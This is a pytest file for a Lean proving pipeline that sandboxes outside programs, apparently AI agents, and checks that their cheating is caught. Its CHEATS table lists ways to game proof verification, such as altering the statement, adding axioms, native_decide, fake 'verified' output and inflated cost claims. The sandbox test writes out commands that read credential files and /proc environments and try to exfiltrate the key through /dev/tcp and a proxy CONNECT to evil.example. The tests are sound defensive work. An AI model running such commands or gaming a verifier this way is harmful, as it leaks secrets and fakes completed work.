"""Programs that prove, before Lean itself: those that cheat, and those that do not. Each runs in a real sandbox."""

from __future__ import annotations

import json
import os
import select
import signal
import socket
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from pipeline.endpoint.errors import Usage
from pipeline.jobs.protocol import JobError
from pipeline.jobs.specs import Budget, EarlierAttempt, ProgramSpec
from pipeline.lean.backend import Sandbox
from pipeline.prove import programs
from pipeline.prove.effort import Attempt
from pipeline.prove.programs import ProgramAuthor, used_by
from pipeline.prove.rungs import Engine, ModelHealth, ladder
from pipeline.prove.whole_proof import WholeProofMethod
from store.events.proofs import ProofVerified
from tests.support.chat_server import ChatServer, Says
from tests.support.gate import Case, GateProject
from tests.support.prove import FILE, Searches, parameters
from tests.support.specs import raw_spec
from tests.support.spending import spent_usd
from tests.support.trace import lean_itself

EXAMPLES = Path(__file__).parents[2] / "examples" / "programs"
SOURCE = """theorem helper (p : Prop) (h : p) : p := h

theorem target (p q : Prop) (h : p ∧ q) : q ∧ p := by
  sorry

theorem other (p : Prop) : p → p := fun h => h
"""
KEY, SECRET = "key-of-the-program-1234", "what-is-on-the-host-5678"
PAUSE = f"sleep 0.3{os.getpid()}"
"""Of no other process of the machine."""
FILLS = "sed -i 's/^  sorry/  exact ⟨h.2, h.1⟩/' A.lean"

Tries = Callable[..., Attempt]


@pytest.fixture(scope="module")
def lean(real_lean: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Searches]:
    with Searches(tmp_path_factory.mktemp("lean"), lean_itself(real_lean)) as made:
        yield made


@pytest.fixture
def tries(lean: Searches, real_lean: Path, tmp_path: Path, bubblewrap: None) -> Tries:
    """Run a program, or the shell script of this text, on the sorry of a file; return the attempt."""
    worktree, scratch = tmp_path / "worktree", tmp_path / "scratch"
    worktree.mkdir()
    scratch.mkdir()

    def run(
        body: str | list[str],
        *,
        source: str = SOURCE,
        seconds: float = 60,
        repairs: int = 0,
        sandbox: Sandbox = "bubblewrap",
        key_variable: str = "AGENT_KEY",
        folder: str = "",
        **given: Any,
    ) -> Attempt:
        project = worktree / folder
        project.mkdir(exist_ok=True)
        if isinstance(body, str):
            script = tmp_path / "program"
            script.write_text(f"#!/bin/sh\n{body}\n", "utf-8")
            script.chmod(0o755)
            body = [str(script)]
        (project / FILE).write_text(source, "utf-8")
        before = contents(worktree)
        author = ProgramAuthor(
            ProgramSpec(name="agent", run=tuple(body), seconds=seconds, key_variable=key_variable, **given),
            backend=lean_itself(real_lean, sandbox=sandbox),
            worktree=worktree,
            project=project,
            scratch=scratch,
            key=KEY,
            earlier={
                (FILE, source.encode().index(b"sorry")): [
                    EarlierAttempt("tactics, rung 0", "exhausted", "", [])
                ]
            },
        )
        answering = ModelHealth(alone=False)
        wholly = WholeProofMethod(answering.watch(author.write), 1, repairs, verbatim=True)
        engine = Engine(ladder().propose, wholly=wholly, again=False, answering=answering)
        budget = Budget(nodes=20, seconds=seconds, tactic_timeout_s=20)
        attempts = lean.attempt(source, engine, budget=budget)
        if answering.over is not None:
            raise answering.over
        attempt = attempts["target"]
        assert contents(worktree) == before, "what the program does stays in its own copy"
        assert list(scratch.iterdir()) == []
        assert KEY not in attempt.detail + attempt.effort.best
        return attempt

    return run


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def left_of_it() -> list[int]:
    """Return the processes of programs that pause."""
    words = PAUSE.split()
    return [one.pid for one in psutil.process_iter(["cmdline"]) if one.info["cmdline"] == words]


COUNTED = "more than the sorry of target changed"
CHEATS: dict[str, tuple[str, str]] = {
    "changes its statement": (
        "sed -i 's/: q ∧ p := by/: p ∧ q := by/; s/^  sorry/  exact h/' A.lean",
        "the statement of target changed",
    ),
    "adds an axiom": (
        "sed -i '1i axiom cheat (p : Prop) : p\\n' A.lean; " + FILLS,
        f"{COUNTED}: axiom cheat (p : Prop) : p",
    ),
    "makes a macro": (
        "sed -i '1i macro \"cheat\" : tactic => `(tactic| sorry)\\n' A.lean; sed -i 's/^  sorry/  cheat/' A.lean",
        f"{COUNTED}: macro",
    ),
    "makes another theorem easy to cite": (
        "sed -i 's/(h : p) : p := h/: p := sorry/; s/^  sorry/  exact helper _/' A.lean",
        f"{COUNTED}: theorem helper (p : Prop) (h : p) : p := h, theorem helper (p : Prop) : p := sorry",
    ),
    "adds an option to the command": (
        "sed -i 's/^theorem target/set_option debug.skipKernelTC true in\\n&/' A.lean; " + FILLS,
        "more of target than this sorry changed",
    ),
    "says sorry by another name": (
        "sed -i 's/^  sorry/  exact sorryAx _ true/' A.lean",
        "not allowed in a proof: the word sorryAx",
    ),
    "has code run": (
        "sed -i 's/^  sorry/  native_decide/' A.lean",
        "not allowed in a proof: the word native_decide",
    ),
    "ends the declaration to begin another": (
        "sed -i 's/^  sorry/  exact ⟨h.2, h.1⟩\\nunsafe def evil : Nat := 0/' A.lean",
        "not allowed in a proof",
    ),
    "edits another file and the lakefile": (
        "echo 'theorem magic (p : Prop) : p := sorry' | tee Magic.lean lakefile.toml;"
        + FILLS.replace("⟨", "magic ⟨"),
        "what else it changed counts for nothing: Magic.lean, lakefile.toml",
    ),
    "edits what was compiled": (
        "mkdir -p .lake/build/lib/lean; echo x > .lake/build/lib/lean/A.olean; sed -i 's/^  sorry/  trivial/' A.lean",
        "counts for nothing: .lake/build/lib/lean/A.olean",
    ),
    "leaves hooks of git": (
        "mkdir -p .git/hooks; echo 'touch /tmp/owned' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout",
        "counts for nothing: .git/hooks/post-checkout",
    ),
    "says that it was done": (
        'echo \'{"line": "result", "summary": {"found": 1}}\'; echo "0 goals, verified by the kernel"',
        "the sorry is still there",
    ),
    "puts a link in the file's place": (
        "rm A.lean; ln -s /etc/passwd A.lean",
        "A.lean is not what it was: a link",
    ),
    "puts a pipe in the file's place": (
        "rm A.lean; mkfifo A.lean",
        "A.lean is not what it was: no regular file",
    ),
    "puts too much in the file's place": ("head -c 20000000 /dev/zero > A.lean", "20000000 bytes, more than"),
    "writes what is no text": ("sed -i 's/^  sorry/  \\xff\\xfe/' A.lean", "no text"),
    "writes its key into the proof": (
        'sed -i "s/^  sorry/  exact $AGENT_KEY/" A.lean',
        "the file holds the program's key",
    ),
    "takes the sorry away": ("sed -i 's/^  sorry/  /' A.lean", "nothing stands in the sorry's place"),
    "imports more": ("sed -i '1i import Lean' A.lean; " + FILLS, "the header of the file changed"),
    "removes the file": ("rm A.lean", "A.lean is not what it was: No such file"),
    "names a file by its key": ('touch "$AGENT_KEY"', "counts for nothing: ***"),
    "names an axiom by its key": (
        'sed -i "1i axiom $AGENT_KEY : True" A.lean',
        "the file holds the program's key",
    ),
    "says in its last words that it spent a fortune": (
        """printf 'everlean-usage: {"usd": 999999}'""",
        "by its own account it cost $999999",
    ),
}


@pytest.mark.parametrize("cheat", CHEATS)
def test_a_program_that_cheats_proves_nothing_and_the_attempt_says_why(cheat: str, tries: Tries) -> None:
    body, reason = CHEATS[cheat]
    attempt = tries(body)
    assert attempt.outcome == "exhausted"
    assert attempt.proof is None
    assert reason in f"{attempt.effort.best}; {attempt.detail}"


def test_a_program_sees_neither_the_host_nor_the_network_and_its_key_is_in_no_record(
    tries: Tries, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text(SECRET, "utf-8")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        attempt = tries(
            f"""cat {tmp_path}/secret /proc/*/environ ~/.ssh/* /etc/passwd | tail -c 900 | tr '\\0' ' '
            echo "open:" $(ls /proc/self/fd); touch {tmp_path}/made {Path.home()}/made /usr/made
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && echo REACHED'
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; head -c 99 <&3 & printf "$0" >&3; wait' \\
                'CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n'
            bash -c 'exec 3<>/dev/tcp/127.0.0.1/${{HTTPS_PROXY##*:}}; head -c 99 <&3 & printf "$0" >&3; wait' \\
                "CONNECT $AGENT_KEY.example:443 HTTP/1.1\\r\\n\\r\\n" """,
            network=("allowed.example",),
        )
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert (
        "hosts that it was refused: evil.example:443 (not on the list of hosts), ***.example:443"
        in attempt.detail
    )
    assert "AGENT_KEY=***" in attempt.detail
    assert "open: 0 1 2 3" in attempt.detail, "nothing of ours is left open to it"
    assert SECRET not in attempt.detail
    assert "REACHED" not in attempt.detail
    assert not (tmp_path / "made").exists()


def test_a_program_that_puts_a_link_in_the_project_s_place_has_nothing_of_the_host_read(
    tries: Tries, tmp_path: Path
) -> None:
    host = tmp_path / "host"
    host.mkdir()
    (host / FILE).write_text(f"-- {SECRET}\naxiom {SECRET} : True\n{SOURCE}", "utf-8")
    attempt = tries(f"cd ..; mv Sub Old && ln -s {host} Sub", folder="Sub")
    assert SECRET not in attempt.detail + attempt.effort.best
    assert "A.lean is not what it was: a link, or behind one" in attempt.effort.best


def test_a_program_is_asked_to_end_at_its_time_and_then_ended_with_all_that_it_started(
    tries: Tries, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(programs, "GRACE_S", 1.0)
    attempt = tries(
        f"""setsid sh -c 'trap "" TERM; while :; do {PAUSE}; done' &
        trap 'echo asked to end' TERM
        while :; do {PAUSE}; done""",
        seconds=2,
    )
    assert attempt.outcome == "budget"
    assert "it ended with: no end after " in attempt.detail
    assert "asked to end" in attempt.detail
    assert left_of_it() == []


def test_a_job_that_is_to_end_takes_its_program_with_it_and_leaves_nothing(
    real_lean: Path, tmp_path: Path, bubblewrap: None
) -> None:
    script, worktree, folder = (tmp_path / name for name in ("agent", "worktree", "job"))
    worktree.mkdir()
    folder.mkdir()
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    script.write_text(f"#!/bin/sh\ntrap '' TERM\necho > {pipe}\nwhile :; do {PAUSE}; done\n", "utf-8")
    script.chmod(0o755)
    asked = parameters(
        worktree,
        SOURCE,
        rung=5,
        lean=lean_itself(real_lean, sandbox="bubblewrap"),
        budget={"seconds": 600, "nodes": 20, "tactic_timeout_s": 20},
        program={
            "name": "agent",
            "run": [str(script)],
            "seconds": 600,
            "network": ["allowed.example"],
            "readable": [str(pipe)],
        },
    )
    heard = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    job = [sys.executable, "-m", "pipeline.prove", "--spec", str(raw_spec("prove", asked, folder).write())]
    with subprocess.Popen(job, stdout=subprocess.PIPE) as process:
        try:
            assert select.select([heard], [], [], 60)[0], "the program runs"
            process.terminate()
            assert process.wait(60) == 128 + signal.SIGTERM, "and no alarm ended it"
        finally:
            os.close(heard)
            process.kill()
    assert [one.name for one in folder.iterdir() if one.name.startswith("program-")] == []
    assert list(Path(tempfile.gettempdir()).glob(f"everlean-gate-{process.pid}-*")) == []
    assert left_of_it() == []


def test_an_honest_program_gets_the_task_and_its_proof_passes_the_gate(tries: Tries, tmp_path: Path) -> None:
    attempt = tries(
        """cmp - "$EVERLEAN_TASK" && tr '\\n' ' ' < "$EVERLEAN_TASK"; echo
        echo 'everlean-usage: {"usd": 0.25, "prompt_tokens": 900, "completion_tokens": 80, "proved": true}'
        sed -i 's/^  sorry/  constructor -- both\\n  · exact h.2\\n  · exact h.1/' A.lean; echo > .notes""",
    )
    assert attempt.outcome == "found"
    assert attempt.proof is not None
    assert attempt.proof.replacement.text == "constructor -- both\n  · exact h.2\n  · exact h.1"
    assert isinstance(
        GateProject(tmp_path / "gate").judge(Case(attempt.proof.replacement.text), lean="credulous"),
        ProofVerified,
    )
    assert attempt.proof.tactics == ("constructor", "· exact h.2", "· exact h.1")
    cost = attempt.effort.cost
    assert (cost.usd, cost.prompt_tokens, cost.completion_tokens) == (0.25, 900, 80)
    assert "by its own account it cost $0.2500" in attempt.detail
    task = json.loads(attempt.detail.partition("it said: ")[2].partition("everlean-usage")[0])
    assert task["goal"] == "p q : Prop\nh : p ∧ q\n⊢ q ∧ p" or task["hypotheses"][-1] == "h : p ∧ q"
    assert (task["schema"], task["file"], task["line"], task["column"], task["mode"]) == (
        1,
        FILE,
        4,
        2,
        "tactic",
    )
    assert task["earlier"] == [{"by": "tactics, rung 0", "outcome": "exhausted", "text": "", "messages": []}]


def test_what_lies_deeper_than_a_path_is_long_keeps_no_proof_from_being_read(tries: Tries) -> None:
    folder, file = 200 * "d", 250 * "f"
    attempt = tries(f"{FILLS}; for one in $(seq 22); do touch {file}; mkdir {folder}; cd {folder}; done")
    assert attempt.outcome == "found", attempt.detail


def test_lean_s_messages_go_back_to_a_program_that_has_another_run(tries: Tries) -> None:
    attempt = tries(
        f"""if grep -q 'this program' "$EVERLEAN_TASK"; then grep -c 'rfl' "$EVERLEAN_TASK"; {FILLS}
        else sed -i 's/^  sorry/  rfl/' A.lean; fi""",
        repairs=1,
    )
    assert attempt.outcome == "found"
    assert attempt.effort.cost.usd is None, "no run said what it cost"


@pytest.mark.parametrize("source", [SOURCE, SOURCE.replace("by\n  sorry", "sorry")])
def test_the_shell_example_finds_what_a_single_tactic_proves(source: str, tries: Tries) -> None:
    attempt = tries([str(EXAMPLES / "try_tactics.sh")], source=source)
    assert attempt.outcome == "found", attempt.detail
    assert "taken: " in attempt.detail


def test_a_run_counts_what_the_settings_say_or_more_and_the_day_s_cap_ends_the_job(
    tries: Tries, tmp_path: Path
) -> None:
    money: dict[str, Any] = {"ledger": tmp_path / "spending.jsonl", "cap_usd": 2.0, "usd_per_run": 0.6}
    for says, spent in (
        ("", 0.6),
        ('everlean-usage: {"usd": 0.01}', 1.2),
        ('everlean-usage: {"usd": 0.7}', 1.9),
    ):
        tries(f"echo '{says}'", **money)
        assert spent_usd(money["ledger"]) == pytest.approx(spent)
    with pytest.raises(JobError, match=r"leaves no room: \$1\.9000 are spent"):
        tries("touch ran", **money)


def test_what_a_program_says_takes_no_more_than_its_own_day_from_what_all_share(
    tries: Tries, tmp_path: Path
) -> None:
    fortune = """echo 'everlean-usage: {"usd": 999999}'"""
    tries(fortune, ledger=tmp_path / "spending.jsonl")
    assert spent_usd(tmp_path / "spending.jsonl") == 0, "it is free by the settings"
    tries(fortune, ledger=tmp_path / "spending.jsonl", cap_usd=2.0, usd_per_run=0.6)
    assert spent_usd(tmp_path / "spending.jsonl") == 2.0


def test_a_day_s_money_that_ends_between_two_runs_ends_the_attempt_which_was_paid_for(
    tries: Tries, tmp_path: Path
) -> None:
    attempt = tries(
        "sed -i 's/^  sorry/  rfl/' A.lean",
        repairs=3,
        ledger=tmp_path / "spending.jsonl",
        cap_usd=1.0,
        usd_per_run=0.6,
    )
    assert attempt.outcome == "exhausted"
    assert "leaves no room" in attempt.detail


def test_a_run_that_could_not_begin_costs_nothing(tries: Tries, tmp_path: Path) -> None:
    with pytest.raises(ExceptionGroup) as caught:
        tries(
            "touch ran",
            readable=(tmp_path / "nowhere",),
            ledger=tmp_path / "spending.jsonl",
            cap_usd=2.0,
            usd_per_run=0.6,
        )
    assert caught.group_contains(JobError, match="nowhere: not there")
    assert spent_usd(tmp_path / "spending.jsonl") == 0


@pytest.mark.parametrize(
    ("text", "usage"),
    [
        ('{"usd": 1, "prompt_tokens": 2.0}', Usage(2, 0, 1.0)),
        ('{"usd": -1, "prompt_tokens": "many", "completion_tokens": true}', Usage()),
        ('{"usd": NaN, "prompt_tokens": 1e999}', Usage()),
        ("[" * 100_000, Usage()),
        ("5", Usage()),
    ],
)
def test_of_what_a_program_says_that_it_used_only_plain_numbers_are_kept(text: str, usage: Usage) -> None:
    assert used_by(text) == usage


def test_a_program_that_fails_by_itself_ends_in_an_error_with_what_it_said(tries: Tries) -> None:
    attempt = tries("echo 'no route to the model'; exit 3")
    assert attempt.outcome == "error"
    assert "it ended with: exit status 3" in attempt.detail
    assert "it said: no route to the model" in attempt.detail


def test_a_program_that_passes_a_bound_is_ended_with_it_named(
    tries: Tries, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(programs, "DISK_BYTES", 2**20)
    attempt = tries("head -c 9M /dev/zero > big; sleep 60")
    assert attempt.outcome == "error"
    assert "it ended with: wrote more than 1 MiB" in attempt.detail


def test_a_program_that_is_not_there_fails_the_job(tries: Tries) -> None:
    with pytest.raises(JobError, match="the program no-such-agent is not there on PATH"):
        tries(["no-such-agent"])


def test_the_client_example_sends_lean_s_messages_to_an_endpoint_and_keeps_what_lean_takes(
    tries: Tries,
) -> None:
    said = (
        Says(["```lean\nexact h\n```"]),
        Says(["Sorry. ```lean\nconstructor\n· exact h.2\n· exact h.1\n```"]),
    )
    with ChatServer(said) as server:
        attempt = tries(
            [
                str(EXAMPLES / "ask_endpoint.py"),
                "--url",
                server.url,
                "--model",
                "m",
                "--usd-per-million",
                "1",
                "2",
            ],
            sandbox="none",
            key_variable="OPENAI_API_KEY",
        )
        asked = server.requests
    assert attempt.outcome == "found", attempt.detail
    assert attempt.proof is not None
    assert attempt.proof.replacement.text == "constructor\n  · exact h.2\n  · exact h.1"
    assert asked[0].authorization == f"Bearer {KEY}"
    assert "type mismatch" in asked[1].body["messages"][-1]["content"].lower()
    assert attempt.effort.cost.usd == pytest.approx(2 * (10 + 2 * 5) / 1e6)
